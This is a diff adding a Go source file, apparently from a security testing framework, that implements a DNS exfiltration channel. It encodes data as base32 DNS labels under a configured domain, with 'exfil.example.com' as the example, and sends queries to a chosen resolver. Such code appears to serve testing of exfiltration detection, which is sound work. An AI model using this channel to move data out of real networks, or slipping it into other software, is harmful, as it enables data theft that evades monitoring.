@@ -0,0 +1,138 @@
+/*
+Copyright © 2024-present, Meta Platforms, Inc. and affiliates
+Permission is hereby granted, free of charge, to any person obtaining a copy
+of this software and associated documentation files (the "Software"), to deal
+in the Software without restriction, including without limitation the rights
+to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+copies of the Software, and to permit persons to whom the Software is
+furnished to do so, subject to the following conditions:
+The above copyright notice and this permission notice shall be included in
+all copies or substantial portions of the Software.
+THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN
+THE SOFTWARE.
+*/
+package blocks
+
+import (
+	"crypto/rand"
+	"encoding/base32"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"strings"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+)
+
+const (
+	// maxDNSNameLength and maxDNSLabelLength are the limits on
+	// the length of a (presentation format) domain name
+	maxDNSNameLength  = 253
+	maxDNSLabelLength = 63
+	// maxDNSIndex bounds the numbers (such as chunk
+	// and sequence numbers) that are included in
+	// query names, so that their length is bounded
+	maxDNSIndex = 99999999
+	dnsTimeout  = 5 * time.Second
+)
+
+// dnsLabelEncoding encodes data using only characters that are
+// valid in DNS labels, and that survive case-insensitive resolvers
+var dnsLabelEncoding = base32.StdEncoding.WithPadding(base32.NoPadding)
+
+// DNSTarget configures the sending of data through DNS queries
+type DNSTarget struct {
+	// Domain is the domain under which the data is encoded,
+	// such as exfil.example.com
+	Domain string `yaml:"domain,omitempty"`
+	// Resolver is the address of the DNS server that the
+	// queries are sent to, with the port defaulting to 53
+	Resolver string `yaml:"resolver,omitempty"`
+}
+
+// Validate checks that both the domain and resolver are set.
+func (d *DNSTarget) Validate() error {
+	if d.Domain == "" || d.Resolver == "" {
+		return fmt.Errorf("dns requires both a domain and a resolver")
+	}
+	return nil
+}
+
+// resolverAddress returns the resolver's address, including its port
+func (d *DNSTarget) resolverAddress() string {
+	if _, _, err := net.SplitHostPort(d.Resolver); err != nil {
+		return net.JoinHostPort(d.Resolver, "53")
+	}
+	return d.Resolver
+}
+
+// dnsDataLabels encodes data as lowercase base32,
+// split across as many labels as needed
+func dnsDataLabels(data []byte) []string {
+	encoded := strings.ToLower(dnsLabelEncoding.EncodeToString(data))
+	var labels []string
+	for len(encoded) > maxDNSLabelLength {
+		labels = append(labels, encoded[:maxDNSLabelLength])
+		encoded = encoded[maxDNSLabelLength:]
+	}
+	if encoded != "" {
+		labels = append(labels, encoded)
+	}
+	return labels
+}
+
+// sendDNSQuery sends an A query for name to the resolver and waits
+// for a response, returning its response code. Callers usually ignore
+// the answer, since the query itself is what carries the data.
+func sendDNSQuery(resolver, name string) (dnsmessage.RCode, error) {
+	qname, err := dnsmessage.NewName(name + ".")
+	if err != nil {
+		return 0, err
+	}
+	var id [2]byte
+	if _, err := rand.Read(id[:]); err != nil {
+		return 0, err
+	}
+	msg := dnsmessage.Message{
+		Header: dnsmessage.Header{ID: binary.BigEndian.Uint16(id[:]), RecursionDesired: true},
+		Questions: []dnsmessage.Question{{
+			Name:  qname,
+			Type:  dnsmessage.TypeA,
+			Class: dnsmessage.ClassINET,
+		}},
+	}
+	query, err := msg.Pack()
+	if err != nil {
+		return 0, err
+	}
+
+	conn, err := net.DialTimeout("udp", resolver, dnsTimeout)
+	if err != nil {
+		return 0, err
+	}
+	defer conn.Close()
+	if err := conn.SetDeadline(time.Now().Add(dnsTimeout)); err != nil {
+		return 0, err
+	}
+	if _, err := conn.Write(query); err != nil {
+		return 0, err
+	}
+	buf := make([]byte, 512)
+	for {
+		n, err := conn.Read(buf)
+		if err != nil {
+			return 0, fmt.Errorf("no response from %v: %w", resolver, err)
+		}
+		var header dnsmessage.Header
+		var parser dnsmessage.Parser
+		if header, err = parser.Start(buf[:n]); err == nil && header.ID == msg.Header.ID && header.Response {
+			return header.RCode, nil
+		}
+	}
+}